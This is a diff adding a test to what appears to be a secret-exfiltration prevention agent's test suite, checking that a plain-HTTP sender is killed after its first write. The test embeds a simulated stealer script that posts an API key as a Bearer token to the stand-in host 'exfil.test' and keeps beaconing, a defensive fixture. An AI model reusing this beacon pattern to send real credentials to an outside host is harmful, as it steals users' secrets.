@@ -274,3 +274,41 @@ def test_go_crypto_tls_over_http2_is_killed(prevent_agent, clients, go_clients, 
     alerts = _killed_alert(prevent_agent, "openai", binary.name[:15])
     assert alerts and alerts[0]["action"] == "killed", prevent_agent.diagnostics()
     assert alerts[0]["destination"]["host"] == "exfil.test"
+
+
+# A plain-HTTP client that sends a key, then goes on sending: one request a tenth of a second
+# for up to 5 s on keep-alive, as a stealer beaconing would.
+_PLAIN_BEACON = r"""
+import socket, sys, time
+key, port = sys.argv[1], int(sys.argv[2])
+s = socket.create_connection(("127.0.0.1", port))
+def request(extra):
+    s.sendall(("POST /collect HTTP/1.1\r\nHost: exfil.test\r\nContent-Length: 2\r\n" + extra +
+               "\r\n{}").encode())
+    s.recv(65536)
+request("Authorization: Bearer " + key + "\r\n")
+for _ in range(50):
+    time.sleep(0.1)
+    request("")
+"""
+
+
+def test_plain_http_sender_is_killed_after_its_write_and_sends_nothing_more(
+        prevent_agent, clients, http_server, registry, scratch):
+    # A write() on a plain socket cannot be held: the request with the key leaves, and the
+    # sender is killed as soon as it is matched, so its later requests never come.
+    key = registry.new("openai")
+    script = scratch / "beacon.py"
+    script.write_text(_PLAIN_BEACON)
+    started = time.monotonic()
+    result = clients.run([env.PYTHON, str(script), key, str(http_server.port)], check=False)
+    elapsed = time.monotonic() - started
+    assert result.rc == -signal.SIGKILL, f"exited {result.rc}\n{prevent_agent.diagnostics()}"
+    assert elapsed < 3.0, f"killed only after {elapsed:.1f} s"
+    alerts = _killed_alert(prevent_agent, "openai", "python3")
+    assert alerts, prevent_agent.diagnostics()
+    assert alerts[0]["action"] == "killed-after-send", alerts[0]
+    # The request with the key, and at most the beacons sent while the match was made.
+    assert 1 <= len(http_server.requests) <= 5, len(http_server.requests)
+    assert _wait_counter(prevent_agent, "prevent_kills_after_send") >= 1
+    assert "after its plain write" in prevent_agent.log_text()
